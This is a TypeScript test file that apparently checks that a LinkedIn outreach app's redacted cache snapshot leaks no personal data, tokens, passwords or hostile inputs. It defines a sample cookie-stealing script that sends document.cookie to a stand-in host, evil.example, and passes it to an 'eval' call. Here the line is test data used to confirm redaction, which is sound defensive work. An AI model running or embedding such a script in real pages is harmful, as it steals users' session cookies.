import { beforeEach, describe, expect, it } from 'vitest';
import { hashKey, type QueryClient } from '@tanstack/react-query';
import { campaignDetailQueries } from '@/features/campaign-detail/api';
import { campaignEditorQueries, sampleProfileFrom } from '@/features/campaign-editor/api';
import { campaignQueries } from '@/features/campaigns/api';
import { crmQueries, DEFAULT_CRM_FILTERS } from '@/features/crm/api';
import { dashboardQueries } from '@/features/dashboard/api';
import { listsQueries } from '@/features/lists/api';
import { messengerQueries } from '@/features/messenger/api';
import { settingsQueries } from '@/features/settings/api';
import { subscriptionQueries } from '@/features/subscriptions/api';
import { toolsQueries } from '@/features/tools/api';
import { callRemote } from '@/lib/extension/client';
import { clearJournal } from '@/lib/journal';
import { savedListsQuery } from '@/lib/queries/lists';
import { buildSnapshot, parseSnapshot, type Snapshot } from '@/lib/query/snapshot';
import { sessionQueries } from '@/lib/session/api';
import { world } from '@/mocks/world/store';
import { createTestQueryClient } from './renderRoute';
import { startSimulation } from './simulation';
import { remoteFunctions } from '@/lib/extension/contract';

const HOSTILE_SEARCH = 'Zebulon Quartermaine';
const HOSTILE_SCRIPT = 'fetch("https://evil.example/steal?c=" + document.cookie)';
const HOSTILE_UPLOAD = 'data:text/plain;base64,U2VjcmV0IGRvY3VtZW50';

/** Fills the cache with every screen's queries, as a visit to each screen would, plus some hostile calls. */
async function visitEveryScreen(client: QueryClient): Promise<void> {
  const w = world();
  const user = w.server.users[0]!;
  // What start-up puts in the cache (the user comes over HTTP; here straight from the world, password and all).
  client.setQueryData(sessionQueries.me().queryKey, user as never);
  client.setQueryData(sessionQueries.planSettings().queryKey, w.server.planSettings as never);
  const campaign = w.campaigns.find((c) => (w.queues[String(c.id)] ?? []).length > 0)!;
  const conversation = w.conversations.find((c) => c.events.length > 0 && c.participants.length > 0)!;
  const participant = conversation.participants[0]!;
  const profilePage = {
    filters: DEFAULT_CRM_FILTERS,
    page: 0,
    size: 10,
    sorting: { field: 'firstName', order: 'ASC' },
  } as const;
  await Promise.all([
    client.fetchQuery(sessionQueries.extensionData()),
    client.fetchQuery(sessionQueries.currentLinkedinUser()),
    client.fetchQuery(sessionQueries.tasks()),
    client.fetchQuery(dashboardQueries.stats('last30')),
    client.fetchQuery(dashboardQueries.activeCampaigns()),
    client.fetchQuery(dashboardQueries.connections()),
    client.fetchQuery(dashboardQueries.pendingInvites()),
    client.fetchQuery(campaignQueries.list()),
    client.fetchQuery(campaignDetailQueries.page({ id: campaign.id, page: 0, size: 10, search: '' })),
    client.fetchQuery(
      campaignDetailQueries.page({ id: campaign.id, page: 0, size: 10, search: HOSTILE_SEARCH }),
    ),
    client.fetchQuery(campaignEditorQueries.campaign(campaign.id)),
    client.fetchQuery(savedListsQuery()),
    client.fetchQuery(campaignEditorQueries.groups()),
    client.fetchQuery(campaignEditorQueries.miniCampaigns()),
    client.fetchQuery(campaignEditorQueries.sampleProfile()),
    client.fetchInfiniteQuery(messengerQueries.conversations({ type: 'linkedin', linkedin: 'all' }, '')),
    client.fetchInfiniteQuery(
      messengerQueries.conversations({ type: 'linkedin', linkedin: 'all' }, HOSTILE_SEARCH),
    ),
    client.fetchInfiniteQuery(messengerQueries.events(conversation.id)),
    client.fetchQuery(messengerQueries.profileCheck()),
    client.fetchQuery(messengerQueries.connectionsLoading()),
    client.fetchQuery(messengerQueries.presence(participant.profileId)),
    client.fetchQuery(messengerQueries.tags()),
    client.fetchQuery(messengerQueries.profile(participant)),
    client.fetchQuery(messengerQueries.relatedEvents(world().profiles[0]!)),
    client.fetchQuery(messengerQueries.cannedResponses()),
    client.fetchQuery(messengerQueries.messagingCampaigns()),
    client.fetchQuery(crmQueries.contacts()),
    client.fetchQuery(crmQueries.loading()),
    client.fetchQuery(crmQueries.bulkDelay()),
    client.fetchQuery(crmQueries.manualExpired()),
    client.fetchQuery(crmQueries.industries()),
    client.fetchQuery(crmQueries.profiles(profilePage)),
    client.fetchQuery(
      listsQueries.profiles({ ...profilePage, sorting: { field: 'createdAt', order: 'DESC' } }),
    ),
    client.fetchQuery(listsQueries.tags()),
    client.fetchQuery(listsQueries.saved()),
    client.fetchQuery(toolsQueries.withdrawal()),
    client.fetchQuery(toolsQueries.pendingInvites(false)),
    client.fetchQuery(settingsQueries.userSettings()),
    client.fetchQuery(settingsQueries.restartAllowed()),
    client.fetchQuery(sessionQueries.extensionVersion()),
    client.fetchQuery(subscriptionQueries.plans()),
    client.fetchQuery(subscriptionQueries.activePlan()),
    client.fetchQuery(subscriptionQueries.gateways()),
  ]);
  const sample = sampleProfileFrom(client.getQueryData(campaignEditorQueries.sampleProfile().queryKey));
  await client.fetchQuery(campaignEditorQueries.preview('Hi {{FIRST_NAME}}, Zebulon here', sample));
  // Calls whose payloads the journal holds: a backup restored, a script run, a file attached.
  const backup = await callRemote(remoteFunctions, 'backupData');
  await callRemote(remoteFunctions, 'restoreData', backup);
  await callRemote(remoteFunctions, 'eval', HOSTILE_SCRIPT);
  await callRemote(remoteFunctions, 'uploadFileToLinkedin', {
    size: 16,
    name: 'Contract Zebulon.txt',
    type: 'text/plain',
    data: HOSTILE_UPLOAD,
  });
}

/** Everything in the world that names or identifies a person, or is a person's words. */
function personalStrings() {
  const w = world();
  const names = new Set<string>();
  const exact = new Set<string>();
  const add = (set: Set<string>, s: string | null | undefined) => s && s.length >= 3 && set.add(s);
  for (const p of [...w.profiles, ...w.conversations.flatMap((c) => c.participants)]) {
    add(names, p.firstName);
    add(names, p.lastName);
    add(exact, p.profileId);
    add(exact, p.publicIdentifier);
    add(exact, p.occupation);
    add(exact, (p as { notes?: string | null }).notes);
  }
  for (const u of w.server.users) {
    add(names, u.details.firstName);
    add(names, u.details.lastName);
    add(exact, u.email);
    add(exact, u.password);
  }
  for (const c of w.conversations)
    for (const e of [...c.events, c.lastMessage]) {
      const text = e?.eventContent.attributedBody?.text;
      if (text && text.length >= 6) exact.add(text);
    }
  for (const c of w.campaigns) add(exact, c.name);
  for (const s of [HOSTILE_SEARCH, HOSTILE_SCRIPT, HOSTILE_UPLOAD, 'Zebulon', 'U2VjcmV0']) exact.add(s);
  return { names: [...names], exact: [...exact] };
}

describe('a redacted snapshot of a whole world', () => {
  let client: QueryClient;
  let snapshot: Snapshot;
  let file: string;

  beforeEach(async () => {
    startSimulation('default');
    clearJournal();
    client = createTestQueryClient();
    await visitEveryScreen(client);
    snapshot = buildSnapshot(client, {
      redact: true,
      route: `/messenger?search=${encodeURIComponent(HOSTILE_SEARCH)}`,
      mode: 'simulated',
    });
    file = JSON.stringify(snapshot, null, 2);
  });

  it('holds no name, profile id, URL, e-mail, message text, search text, script or upload', () => {
    const { names, exact } = personalStrings();
    expect(names.length).toBeGreaterThan(100);
    expect(exact.length).toBeGreaterThan(100);
    const leakedNames = names.filter((n) => new RegExp(`\\b${n.replace(/[^\w]/g, '\\$&')}\\b`).test(file));
    const leaked = exact.filter((s) => file.includes(s));
    expect(leakedNames).toEqual([]);
    expect(leaked).toEqual([]);
    expect(file).not.toMatch(/https?:|www\.|linkedin\.com|urn:li:/i);
    expect(file).not.toMatch(/[\w.+-]+@[\w-]+\.[a-z]{2,}/i);
    expect(file).not.toMatch(/ACoAA/);
  });

  it('keeps what replay needs: every query, its key words, statuses, numbers and consistent stand-ins', () => {
    const original = client.getQueryCache().getAll();
    expect(snapshot.queries.queries).toHaveLength(original.length);
    const queries = snapshot.queries.queries as {
      queryKey: unknown[];
      queryHash: string;
      state: { data: unknown };
    }[];
    expect(new Set(queries.map((q) => q.queryKey[0]))).toEqual(new Set(original.map((q) => q.queryKey[0])));
    expect(queries.every((q) => q.queryHash === hashKey(q.queryKey))).toBe(true);

    const list = queries.find((q) => q.queryKey[0] === 'campaigns' && q.queryKey[1] === 'list')!.state
      .data as {
      id: number;
      status: string;
      module: string;
    }[];
    expect(list.map((c) => [c.id, c.status, c.module])).toEqual(
      world().campaigns.map((c) => [c.id, c.status, c.module]),
    );

    // The open conversation's events are filed under the same stand-in as the conversation in the list.
    const events = queries.find((q) => q.queryKey[1] === 'events')!;
    const conversationPages = queries.find((q) => q.queryKey[1] === 'conversations' && q.queryKey[3] === '')!
      .state.data as { pages: { items: { id: string; participants: { profileId: string }[] }[] }[] };
    const listed = conversationPages.pages[0]!.items;
    const open = listed.find((c) => c.id === events.queryKey[2]);
    expect(open?.id).toMatch(/^id-\d+$/);
    // A message's sender is still recognisably the participant (or not).
    const messages = (events.state.data as { pages: { from: string }[][] }).pages.flat();
    expect(messages.some((m) => m.from === open!.participants[0]!.profileId)).toBe(true);
    expect(snapshot.route).toBe(`/messenger?search=${encodeURIComponent('•••••••' + ' ' + '••••••••••••')}`);
  });

  it('always removes the token and the password, and parses back as a snapshot', () => {
    const w = world();
    expect(file).not.toContain(w.extension.token!);
    expect(file).not.toContain(w.server.users[0]!.password);
    expect(parseSnapshot(file)).toMatchObject({ ok: true });

    const unredacted = JSON.stringify(
      buildSnapshot(client, { redact: false, route: '/', mode: 'simulated' }),
    );
    expect(unredacted).toContain(w.profiles[0]!.lastName);
    expect(unredacted).not.toContain(w.extension.token!);
    expect(unredacted).not.toContain(w.server.users[0]!.password);
  });
});
